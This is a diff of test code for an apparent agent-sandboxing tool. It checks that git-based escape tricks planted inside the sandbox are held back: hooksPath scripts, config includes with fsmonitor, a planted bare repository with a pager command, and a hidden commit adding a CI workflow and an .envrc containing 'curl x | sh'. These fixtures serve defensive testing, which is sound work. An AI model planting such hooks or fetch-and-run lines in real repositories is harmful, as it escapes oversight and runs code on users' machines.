@@ -333,3 +333,89 @@ def test_an_agents_commit_inside_is_applied_back(root: Caller, default_image: st
     assert (repo / ".git" / "config").read_text() == config_before  # the rewritten config was held back
     assert _git(repo, ROOTLESS_USER, "status", "--porcelain").stdout == ""
     shutil.rmtree(repo)
+
+
+# -- from the outside attack round: each a kind, each with its control ----------------------------
+
+def test_a_worktrees_hooks_path_and_included_config_are_protected(rootless: Caller, data_dir: Path) -> None:
+    """Git's own view of its configuration decides: a worktree (.git is a `gitdir:` file) whose repository
+    sets core.hooksPath, and a tracked file the configuration includes."""
+    main = _repository(ROOTLESS_USER, {".githooks/pre-commit": "#!/bin/sh\n", ".gitconfig": "[core]\n"})
+    for args in (["config", "core.hooksPath", ".githooks"], ["config", "include.path", "../.gitconfig"]):
+        assert _git(main, ROOTLESS_USER, *args).returncode == 0
+    tree = Path(tempfile.mkdtemp(prefix="vg-overlay-worktree-")) / "wt"
+    shutil.chown(tree.parent, ROOTLESS_USER, ROOTLESS_USER)
+    added = _git(main, ROOTLESS_USER, "worktree", "add", str(tree), "-b", "agent")
+    assert added.returncode == 0, added.stderr
+    script = "echo 'id > /tmp/x' >> .githooks/pre-commit; echo '\tfsmonitor = touch /tmp/y' >> .gitconfig; echo ok"
+    result = _run(rootless, tree, script, data_dir)
+    assert result.stdout == b"ok\n", result.stderr.decode()
+    changes = _changes(rootless, tree, data_dir, _layer_id(result))
+    assert "hookspath" in changes[".githooks/pre-commit"]["protected"].lower()
+    assert "configuration" in changes[".gitconfig"]["protected"]
+    shutil.rmtree(tree.parent)
+    shutil.rmtree(main)
+
+
+def test_a_bare_repository_planted_in_a_directory_is_protected(rootless: Caller, data_dir: Path) -> None:
+    repo, marker = _repository(ROOTLESS_USER, {"src/main.c": "int main;\n"}), _marker()
+    script = ("cp -r .git/objects .git/refs .git/HEAD src/ && "
+              f"printf '[core]\\n\\tbare = true\\n\\tpager = \"touch {marker}; cat\"\\n' > src/config && "
+              "echo 'int main(void);' > src/main.c && echo ok")
+    result = _run(rootless, repo, script, data_dir)
+    assert result.stdout == b"ok\n", result.stderr.decode()
+    layer = _layer_id(result)
+    changes = _changes(rootless, repo, data_dir, layer)
+    assert "repository" in changes["src/config"]["protected"] and "repository" in changes["src/HEAD"]["protected"]
+    assert not changes["src/main.c"]["protected"]
+    assert _vg(rootless, repo, data_dir, "apply", layer).returncode == 0
+    assert not (repo / "src" / "config").exists() and (repo / "src" / "main.c").read_text() == "int main(void);\n"
+    # The control: applied, the planted repository's pager runs for a plain `git log` there.
+    assert _vg(rootless, repo, data_dir, "apply", layer, "--include-protected", "src/config",
+               "--include-protected", "src/HEAD").returncode == 0
+    _git(repo / "src", ROOTLESS_USER, "-c", "core.pager=", "log", "-1", env={"GIT_PAGER": ""})
+    assert (repo / "src" / "config").exists()
+    shutil.rmtree(repo)
+
+
+def test_a_commit_that_adds_protected_files_holds_its_ref_back(root: Caller, default_image: str,
+                                                               root_data: Path) -> None:
+    repo = _repository(ROOTLESS_USER, {"README": "v1\n"})
+    script = ("cd /workspace && echo v2 > README && mkdir -p .github/workflows && echo 'on: push' > "
+              ".github/workflows/ci.yml && echo 'curl x | sh' > .envrc && git add -A && "
+              "git -c user.name=A -c user.email=a@example.invalid commit -qm 'docs: tweak README' && "
+              "git rm -q --cached .envrc .github/workflows/ci.yml && rm -rf .envrc .github && echo ok")
+    result = _run(root, repo, script, root_data, image="localhost/vectraguard/default:bookworm")
+    assert result.returncode == 0 and result.stdout == b"ok\n", result.stderr.decode()
+    layer = _layer_id(result)
+    changes = _changes(root, repo, root_data, layer)
+    assert ".envrc" in (changes[".git/refs/heads/main"]["protected"] or "")
+    applied = _vg(root, repo, root_data, "apply", layer)
+    assert applied.returncode == 0, applied.stderr.decode()
+    log = _git(repo, ROOTLESS_USER, "log", "--format=%s")
+    assert log.stdout.splitlines() == ["initial"], log.stdout  # the ref stayed where it was
+    shutil.rmtree(repo)
+
+
+def test_sparse_deep_and_undecodable_names_are_harvested_within_bounds(rootless: Caller, data_dir: Path) -> None:
+    repo = _repository(ROOTLESS_USER)
+    script = ("dd if=/dev/zero of=sparse bs=1M count=1 seek=1000 2>/dev/null; "
+              "i=0; mkdir deep; cd deep; while [ $i -lt 1100 ]; do mkdir d && cd d; i=$((i+1)); done; echo x > leaf; "
+              "cd /workspace; echo hi > \"$(printf 'bad\\377name')\"; echo ok")
+    result = _run(rootless, repo, script, data_dir, "--set", "limits.workspace_writes=32Mi")
+    assert result.returncode == 0 and result.stdout.endswith(b"ok\n"), result.stderr.decode()
+    layer = _layer_id(result)
+    blobs = data_dir / "workspaces" / next(p.name for p in (data_dir / "workspaces").iterdir()) / "blobs"
+    assert sum(p.stat().st_blocks * 512 for p in blobs.iterdir()) <= 32 << 20  # disk bounded by the cap
+    changes = _changes(rootless, repo, data_dir, layer)
+    assert changes["sparse"]["size"] == 1001 << 20 and changes["sparse"]["refused"]  # never applied
+    leaf = next(path for path in changes if path.endswith("/leaf"))
+    assert leaf.count("/") == 1101
+    applied = _vg(rootless, repo, data_dir, "apply", layer)
+    assert "Traceback" not in applied.stderr.decode(), applied.stderr.decode()
+    shown = rootless.last_session(repo, {"VECTRAGUARD_DATA_DIR": str(data_dir)})["events"][-1]
+    assert shown["kind"] == "workspace-applied" or "workspace" in str(shown), shown
+    assert (repo / os.fsdecode(b"bad\xffname")).read_text() == "hi\n"
+    verify = _vg(rootless, repo, data_dir, "logs", "verify")
+    assert verify.returncode == 0, verify.stdout.decode() + verify.stderr.decode()
+    shutil.rmtree(repo)
